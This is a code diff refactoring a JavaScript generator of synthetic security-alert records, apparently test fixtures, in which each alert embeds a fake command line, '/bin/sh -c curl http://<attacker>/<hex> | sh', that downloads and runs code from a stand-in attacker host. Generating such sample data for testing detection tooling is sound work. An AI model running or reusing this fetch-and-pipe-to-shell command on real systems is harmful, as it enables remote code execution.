@@ -33,6 +33,10 @@ const hex = (next, length) => Array.from({ length }, () => Math.floor(next() * 1
 
 /** The alert of a number, as one line of a history. */
 export function alertLine(number) {
+  return JSON.stringify({ kind: "alert", entry: alertOf(number) });
+}
+
+function alertOf(number) {
   const next = randomOf(number);
   const name = pick(next, NAMES);
   const host = Math.floor(next() ** 2 * 2_000);
@@ -42,7 +46,7 @@ export function alertLine(number) {
   const hour = String(number % 24).padStart(2, "0");
   const time = `2026-11-${String(1 + (number % 28)).padStart(2, "0")} ${hour}:00:00`;
   const command = `/bin/sh -c curl http://${attacker}/${hex(next, 6)} | sh ; token${Math.floor(next() * 20_000)}`;
-  return JSON.stringify({
+  return {
     Id: `9007199${uuid}`,
     AlertUuid: `sas_${uuid}`,
     AlertName: name,
@@ -65,7 +69,7 @@ export function alertLine(number) {
     OccurTime: time,
     GmtCreate: time,
     LogUuid: hex(next, 16),
-  });
+  };
 }
 
 /** So many rules on few fields, as written with `conditions`. */
